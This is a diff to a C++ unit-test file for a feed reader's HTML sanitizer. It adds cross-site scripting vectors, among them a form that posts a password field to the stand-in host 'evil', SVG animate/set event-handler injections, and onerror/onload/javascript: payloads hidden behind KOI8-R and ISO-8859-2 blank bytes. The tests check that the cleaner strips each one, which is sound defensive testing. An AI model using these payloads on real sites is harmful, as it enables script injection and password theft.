@@ -3,11 +3,14 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <filesystem>
+#include <memory>
 
 #include "html/cleaning.h"
 #include "oracle/browser_oracle.h"
 #include "oracle/feed_pipeline.h"
+#include "parse/charsets/encoding_choice.h"
 #include "settings/settings.h"
 #include "support/temp_dir.h"
 
@@ -55,6 +58,10 @@ constexpr const char* kAttackVectors[] = {
     "<img src=\"x\"/onerror=alert(1)>",
     "<img\x0csrc=x\x0conerror=alert(1)>",
     "<iframe/src=\"data:text/html,<script>alert(1)</script>\">",
+    "<form action=\"http://evil/\"><input type=password name=p></form>",
+    "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/></svg>",
+    "<svg><animate attributeName=\" OnClick\" values=\"alert(1)\"/></svg>",
+    "<img src=\"x\" alt=\"a",
 };
 
 TEST(BrowserOracleTest, AttackVectorsAreCaughtAndCleaned) {
@@ -68,19 +75,71 @@ TEST(BrowserOracleTest, AttackVectorsAreCaughtAndCleaned) {
   }
 }
 
-TEST(BrowserOracleTest, GoldenFeedsComeOutClean) {
+constexpr EncodingChoice kEverySetting[] = {
+    EncodingChoice::kAutomatic, EncodingChoice::kWesternEurope, EncodingChoice::kCyrillicWindows,
+    EncodingChoice::kCentralEuropean};
+
+// Restores the settings a test changes through the feed pipeline.
+class SavedSettings {
+ public:
+  ~SavedSettings() { SetCurrentSettings(*saved_); }
+
+ private:
+  std::shared_ptr<const Settings> saved_ = CurrentSettings();
+};
+
+TEST(BrowserOracleTest, GoldenFeedsComeOutCleanUnderEverySetting) {
+  const SavedSettings saved;
   int feeds = 0;
   for (const auto& entry : std::filesystem::directory_iterator(TARSEL_TEST_DATA "/feeds")) {
     const std::string extension = entry.path().extension().string();
     if (extension != ".xml" && extension != ".rss" && extension != ".html") continue;
-    SCOPED_TRACE(entry.path().filename().string());
-    const auto channel =
-        testing::ParseBodyAsTheCliDoes(testing::ReadFileBytes(entry.path().string()));
-    if (!channel) continue;
-    ++feeds;
-    EXPECT_EQ(FindChannelRisk(*channel), "");
+    const std::string body = testing::ReadFileBytes(entry.path().string());
+    for (const EncodingChoice setting : kEverySetting) {
+      SCOPED_TRACE(entry.path().filename().string() + " " +
+                   std::string(EncodingChoiceName(setting)));
+      const auto channel = testing::ParseBodyAsTheCliDoes(body, setting);
+      if (!channel) continue;
+      ++feeds;
+      EXPECT_EQ(FindChannelRisk(*channel), "");
+    }
   }
-  EXPECT_GE(feeds, 8);
+  EXPECT_GE(feeds, 8 * 4);
+}
+
+// The single-byte tables turn some bytes into a blank (0x80 of KOI8-R, 0x85 of ISO-8859-2 under
+// a single-byte setting) and end the text at a zero byte. Placed where the cleaner reads a name
+// or a value, either must already have happened when it reads them.
+TEST(BrowserOracleTest, LegacyCharsetBytesOpenNoWayPastTheCleaner) {
+  const SavedSettings saved;
+  const struct {
+    const char* charset;
+    char blank;
+  } charsets[] = {{"koi8-r", '\x80'}, {"iso-8859-2", '\x85'}};
+  // '#' stands for the byte that becomes a blank.
+  const std::string descriptions[] = {
+      "<img src=\"data:image/png,x\" #onerror=\"alert(1)\">",
+      "<svg#onload=alert(1)>",
+      "<a href=\"#javascript:alert(1)\">x</a>",
+      std::string("<img src=\"x\" alt=\"a\0b\">after", 28),
+  };
+  for (const auto& charset : charsets) {
+    for (std::string description : descriptions) {
+      std::replace(description.begin(), description.end(), '#', charset.blank);
+      const std::string body = std::string("<?xml version=\"1.0\" encoding=\"") + charset.charset +
+                               "\"?><rss version=\"2.0\"><channel><title>T</title><item>"
+                               "<title>I</title><description><![CDATA[" +
+                               description + "]]></description></item></channel></rss>";
+      for (const EncodingChoice setting : kEverySetting) {
+        SCOPED_TRACE(std::string(charset.charset) + " " + std::string(EncodingChoiceName(setting)) +
+                     ": " + description);
+        const auto channel = testing::ParseBodyAsTheCliDoes(body, setting);
+        ASSERT_TRUE(channel.has_value());
+        ASSERT_EQ(channel->records.size(), 1u);
+        EXPECT_EQ(FindChannelRisk(*channel), "") << channel->records[0]->description;
+      }
+    }
+  }
 }
 
 // An update parses each description once for its summary and its cleaning; the channel must be
